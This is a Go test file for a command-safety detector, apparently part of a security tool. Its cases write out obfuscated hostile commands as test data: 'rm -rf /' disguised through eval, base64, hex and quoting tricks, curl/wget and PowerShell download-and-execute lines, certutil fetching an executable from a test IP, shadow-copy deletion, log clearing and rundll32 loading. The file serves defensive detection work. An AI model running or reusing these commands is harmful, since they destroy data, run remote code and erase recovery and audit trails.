package commands

import (
	"context"
	"testing"

	"github.com/picketsec/picket/sdk"
)

// TestHiddenCommands checks that the dressing around a command does not
// hide it: wrappers, nested shells, substitutions, here-documents, encoded
// payloads, variables, quoting tricks, absolute paths, PowerShell.
func TestHiddenCommands(t *testing.T) {
	t.Parallel()
	tests := map[string]struct {
		cmd, rule string
	}{
		"bash -c":              {`bash -c "rm -rf /"`, "rm-critical"},
		"user@host prompt":     {`root@build:~# rm -rf /`, "rm-critical"},
		"bracket prompt":       {`[ops@web01 ~]$ rm -rf ~`, "rm-critical"},
		"shell-version prompt": {`bash-5.2$ rm -rf /`, "rm-critical"},
		"angle placeholder":    {`aws iam attach-user-policy --user-name <user> --policy-arn arn:aws:iam::aws:policy/AdministratorAccess`, "aws-iam-privesc"},
		"plan argument":        {`chmod u+s #{binary_path}`, "setuid"},
		"sh -lc nested twice":  {`sh -lc 'zsh -c "rm -rf ~"'`, "rm-critical"},
		"eval":                 {`eval "rm -rf /"`, "rm-critical"},
		"eval of variable":     {`c='rm -rf /'; eval "$c"`, "rm-critical"},
		"variable as program":  {`x=rm; y=-rf; $x $y /`, "rm-critical"},
		"xargs":                {`echo / | xargs rm -rf /`, "rm-critical"},
		"find -exec":           {`find . -maxdepth 0 -exec rm -rf / \;`, "rm-critical"},
		"env":                  {`env -i PATH=/bin rm -rf /`, "rm-critical"},
		"nohup":                {`nohup rm -rf / &`, "rm-critical"},
		"timeout":              {`timeout 10 rm -rf ~`, "rm-critical"},
		"sudo with options":    {`sudo -u root -E rm -rf /`, "rm-critical"},
		"command substitution": {`echo $(rm -rf ~)`, "rm-critical"},
		"backticks":            {"echo `rm -rf ~`", "rm-critical"},
		"here-document":        {"bash <<'EOF'\nrm -rf /\nEOF", "rm-critical"},
		"here-string":          {`bash <<< 'rm -rf ~'`, "rm-critical"},
		"base64 payload":       {`echo cm0gLXJmIH4K | base64 -d | bash`, "rm-critical"},
		"hex payload":          {`echo 726d202d7266207e | xxd -r -p | sh`, "rm-critical"},
		"printf escapes":       {`printf '\x72\x6d\x20\x2d\x72\x66\x20\x2f' | sh`, "rm-critical"},
		"ansi-c quoting":       {`$'\x72\x6d' -rf /`, "rm-critical"},
		"split quotes":         {`r''m -r""f /`, "rm-critical"},
		"backslash":            {`\rm -rf /`, "rm-critical"},
		"absolute path":        {`/bin/rm --recursive --force /`, "rm-critical"},
		"separate flags":       {`rm -r -f ~/`, "rm-critical"},
		"python os.system":     {`python3 -c 'import os; os.system("rm -rf /")'`, "rm-critical"},
		"powershell encoded":   {`powershell -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAxADkAMgAuADAALgAyAC4AMQAvAHAAKQA=`, "ps-download-exec"},
		"cmd /c":               {`cmd.exe /c "vssadmin delete shadows /all /quiet"`, "inhibit-recovery"},
		"tokenizer fallback":   {`rm -rf / "`, "rm-critical"},
		"curl into subshell":   {`bash -c "$(curl -fsSL https://example.org/i.sh)"`, "download-pipe-shell"},
		"wget via proc subst":  {`bash <(wget -qO- https://example.org/i.sh)`, "download-pipe-shell"},
	}
	for name, tc := range tests {
		tc := tc
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			ms := judge(context.Background(), tc.cmd, defaultConfig)
			for _, m := range ms {
				if m.rule.ID == tc.rule && m.sev >= sdk.SeverityHigh {
					return
				}
			}
			t.Fatalf("%q: want %s >= high, got %v", tc.cmd, tc.rule, describe(ms))
		})
	}
}

// TestWindowsWrapping checks two wrappings of a caught Windows command: a
// program name built from variables set earlier on the same cmd.exe line,
// and a comma-shaped argument (x.dll,Entry) passed through PowerShell to a
// native program.
func TestWindowsWrapping(t *testing.T) {
	t.Parallel()
	must := map[string]string{
		"call of joined variables":  `set p1=cert&& set p2=util&& call %p1%%p2% -urlcache -split -f http://198.51.100.9/k k.exe`,
		"plain joined variables":    `set p1=vss&set p2=admin&%p1%%p2% delete shadows /all /quiet`,
		"quoted set, or operator":   `set "w1=wev"|| set "w2=tutil"|| %w1%%w2% cl Security`,
		"cmd /c of joined":          `cmd.exe /c "set u=cert&& set v=util&& %u%%v% -urlcache -f http://198.51.100.9/k k.exe"`,
		"delayed under /v:on":       `cmd /v:on /c "set u=vssad&& set v=!u!min&& !v! delete shadows /all"`,
		"child cmd inherits":        `set t1=vss&& set t2=admin&& cmd.exe /c %t1%%t2% delete shadows /all /quiet`,
		"argument from same line":   `set what=shadows& vssadmin.exe delete %what% /all /quiet`,
		"powershell cmd rundll32":   `powershell -c "cmd /c rundll32 C:\Users\Public\svc.dll,Go"`,
		"powershell rundll32 space": `powershell.exe -nop -c "rundll32.exe C:\ProgramData\m.dll, Run"`,
		"powershell cmd ordinal":    `pwsh -c "cmd.exe /c rundll32 tool,EntryPoint"`,
	}
	for name, cmd := range must {
		ms := judge(context.Background(), cmd, defaultConfig)
		if matchSev(ms) < sdk.SeverityHigh {
			t.Errorf("%s: %q: want >= high, got %v", name, cmd, describe(ms))
		}
	}
	mustNot := []string{
		`set name=world& echo hello %name%`,
		`set out=build\bin&& mkdir %out%&& go build -o %out%\app.exe .`,
		`set cfg=Release&& msbuild app.sln /p:Configuration=%cfg% /m`,
		`set PORT=8080&& npm start -- --port %PORT%`,
		`powershell -c "rundll32 shell32.dll,Control_RunDLL desk.cpl"`,
		`powershell -c "cmd /c rundll32 printui.dll,PrintUIEntry /?"`,
		`powershell -c "Get-Process -Name notepad,calc | Select-Object Id,Name"`,
	}
	for _, cmd := range mustNot {
		ms := judge(context.Background(), cmd, defaultConfig)
		if matchSev(ms) >= sdk.SeverityHigh {
			t.Errorf("%q: want < high, got %v", cmd, describe(ms))
		}
	}
}

func matchSev(ms []match) sdk.Severity {
	var m sdk.Severity
	for _, x := range ms {
		if x.sev > m {
			m = x.sev
		}
	}
	return m
}
